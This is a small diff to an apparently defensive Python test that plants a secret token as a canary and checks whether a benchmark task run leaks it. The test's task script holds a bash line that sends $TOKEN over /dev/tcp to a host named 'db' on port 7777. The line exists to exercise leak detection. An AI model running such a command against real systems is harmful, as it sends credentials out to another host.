@@ -23,7 +23,7 @@ def test_it_is_nowhere(project: Project) -> None:
     canary = Canary(SECRET)
     script = f"""bash -c 'echo "sent: $TOKEN" >/dev/tcp/db/7777'; sleep 0.5; {SCORE % 0.5}"""
     project.benchmark("b", {"t": script}, task_yaml=TASK)
-    with canary.watched() as seen:
+    with canary.watched(project) as seen:
         done = project.run(env={"TOKEN": SECRET})
     assert set(seen) == {SEEN}
     assert not canary.found_in(done.text.encode())
